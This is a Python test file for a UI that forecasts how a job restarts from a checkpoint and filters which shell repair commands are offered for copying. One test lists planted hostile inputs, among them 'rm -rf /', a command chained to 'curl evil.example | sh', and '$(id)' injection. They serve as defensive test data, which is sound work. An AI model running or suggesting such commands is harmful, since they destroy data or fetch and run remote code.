"""Sentences on a checkpoint, the forecast of a start, and which commands may be copied."""

from __future__ import annotations

from typing import Any

import pytest

from tests.ui.checkpoint_factories import checkpoint, finding, found, harm, note
from tests.ui.factories import HOSTILE, NOW, fleet_query, rfc3339
from ui.checkpoints import assessment
from ui.checkpoints.assessment import (
    commands,
    effect,
    force_refusal,
    forecast_start,
    irrelevance,
    last_check,
    resume_sentence,
    shell_commands,
    steps,
)


def test_an_ok_checkpoint_names_the_batch_it_resumes_at() -> None:
    forecast = forecast_start(found(checkpoint()), waiting=False, failure="")
    assert (forecast.sentence, forecast.findings, forecast.blocks) == (
        "The next start resumes at batch 1234.",
        (),
        False,
    )


def test_a_planned_but_uncommitted_batch_runs_again() -> None:
    assert "runs again with the same input" in resume_sentence(checkpoint(last_planned_batch=1234))
    assert resume_sentence(checkpoint(next_batch=None)) == "The next start resumes from the checkpoint."


def test_a_broken_checkpoint_blocks_and_names_only_fatal_findings() -> None:
    answer = found(checkpoint(verdict="broken"), findings=[harm(), finding(), note()])
    forecast = forecast_start(answer, waiting=False, failure="")
    assert forecast.sentence == "A start will fail:"
    assert [finding["check"] for finding in forecast.findings] == ["state.version-file-missing"]
    assert forecast.blocks


def test_an_outdated_broken_verdict_does_not_block_during_a_check() -> None:
    answer = found(checkpoint(verdict="broken"), findings=[finding()])
    forecast = forecast_start(answer, waiting=True, failure="")
    assert not forecast.blocks
    assert "At the last check" in forecast.sentence


def test_an_outdated_broken_verdict_blocks_if_no_check_is_possible() -> None:
    answer = found(checkpoint(verdict="broken", stale=True), findings=[finding()])
    forecast = forecast_start(answer, waiting=False, failure="cannot be checked now")
    assert forecast.blocks  # as the server does
    assert "At the last check" in forecast.sentence


def test_a_risky_checkpoint_names_the_batch_and_the_risks() -> None:
    forecast = forecast_start(found(checkpoint(verdict="risky"), findings=[harm(), note()]), False, "")
    assert forecast.sentence == "The next start resumes at batch 1234. Risks:"
    assert [finding["check"] for finding in forecast.findings] == ["sink.metadata-ahead"]
    assert not forecast.blocks


@pytest.mark.parametrize(
    ("answer", "text"),
    [
        (None, "unknown whether a start will resume: no agent can check"),
        (
            found(checkpoint(verdict="unknown", summary="", trouble="the agent is gone")),
            "will resume: the agent is",
        ),
        (found(checkpoint(verdict="unreadable", summary="no such folder")), "cannot be read: no such"),
        (found(checkpoint(verdict="newer-than-we", summary="odd")), "will resume: odd"),
    ],
)
def test_an_unknown_verdict_is_reported_as_unknown(answer: Any, text: str) -> None:
    forecast = forecast_start(answer, waiting=False, failure="" if answer else "no agent can check")
    assert text in forecast.sentence
    assert not forecast.blocks


@pytest.mark.parametrize("verdict", ["ok", "ok_at_check", "outdated", "risky"])
def test_a_check_in_progress_states_no_batch_of_the_last_one(verdict: str) -> None:
    """The dialog read "resumes after batch 477" and "resumes at batch 1" at once."""
    forecast = forecast_start(found(checkpoint(verdict=verdict, next_batch=1)), waiting=True, failure="")
    assert "batch" not in forecast.sentence and "A start waits for the result" in forecast.sentence
    assert forecast.waiting and forecast.known and not forecast.blocks


@pytest.mark.parametrize(
    ("verdict", "label"), [("ok_at_check", "OK at last check"), ("outdated", "Earlier check")]
)
def test_an_earlier_verdict_shows_the_server_s_sentence(verdict: str, label: str) -> None:
    text = "As of batch 7, no fault was found. Batch 59 has been committed since."
    forecast = forecast_start(found(checkpoint(verdict=verdict, summary=text)), False, "")
    assert (forecast.sentence, forecast.style.label) == (text, label)


def test_a_broken_checkpoint_needs_the_checkbox_and_a_reason() -> None:
    assert forecast_start(found(checkpoint(verdict="broken"), findings=[finding()]), False, "").blocks
    assert not forecast_start(found(checkpoint()), False, "").blocks
    assert "Continue anyway" in str(force_refusal(False, "because"))
    assert "Enter a reason" in str(force_refusal(True, "  "))
    assert force_refusal(True, "the file is back") is None


def test_a_command_inside_a_step_is_offered_beside_its_text() -> None:
    found = steps(["restore it", "or mend it: `controlplane repair 's3://a b/c' --dry-run`"])
    assert found == [("restore it", []), ("or mend it:", ["controlplane repair 's3://a b/c' --dry-run"])]
    assert steps("controlplane undo /backup/1") == [("run", ["controlplane undo /backup/1"])]
    assert steps(None) == []


@pytest.mark.parametrize(
    "planted",
    [
        "`rm -rf /`",
        "`controlplane doctor x; curl evil.example | sh`",
        "`controlplane doctor $(id)`",
        "`controlplane doctor x\ncurl evil.example`",
        "`controlplane doctor 'x' & id`",
        "`controlplane doctor \u202ex`",
        HOSTILE,
    ],
)
def test_a_command_that_a_file_name_planted_is_not_offered(planted: str) -> None:
    assert commands(planted) == []


def test_paths_are_quoted_for_the_shell_or_not_offered() -> None:
    assert shell_commands(checkpoint(checkpoint="/a b")) == ["controlplane doctor '/a b'"]
    broken = shell_commands(checkpoint(checkpoint="/a", verdict="broken"))
    assert broken == ["controlplane doctor /a", "controlplane repair /a --dry-run"]
    for path in ("", None, "--rm", "a\nb", "it's", "a\u202eb"):
        assert shell_commands(checkpoint(checkpoint=path)) == []


def test_the_effect_of_a_finding_is_one_sentence() -> None:
    assert effect(finding(condition="C")) == "The restart fails, in the first batch: C"
    assert effect(harm()) == "It runs and harms results: Spark does not notice"
    assert effect(note()) == ""


def test_the_last_check_names_time_collector_and_cause() -> None:
    text = last_check(checkpoint(collector="driver file", why="failed"), NOW)
    assert text == "checked 42 s ago by the driver because the run failed"
    assert (
        last_check(checkpoint(collected_at=rfc3339(NOW), collector=None, why="new"), NOW)
        == "checked just now"
    )
    assert last_check(checkpoint(collected_at=None), NOW) == "not checked yet"
    read = last_check(checkpoint(collector="driver file", logs_read_at=rfc3339(NOW - 5)), NOW)
    assert read == "logs checked 5 s ago, all files 42 s ago by the driver because a run started"


@pytest.mark.parametrize(
    ("query", "text"),
    [
        (fleet_query(facts={"checkpoint_is_temporary": True}), "temporary"),
        (fleet_query(status="finished"), "has finished"),
        (fleet_query(status="retired"), "retired"),
    ],
)
def test_an_irrelevant_checkpoint_comes_with_the_reason(query: Any, text: str) -> None:
    assert text in str(irrelevance(query))
    assert irrelevance(fleet_query()) is None


def test_filters_match_text_in_name_app_path_and_verdict() -> None:
    items = [checkpoint(1), checkpoint(2, verdict="broken", app="clicks")]
    assert len(assessment.matching(items, "lake QUERY")) == 2
    assert assessment.matching(items, "broken") == items[1:]
    assert assessment.matching(items, "", app=["clicks"], verdict=["ok"]) == []
    assert assessment.counts([*items, {}]) == {"ok": 1, "broken": 1, "unknown": 1}
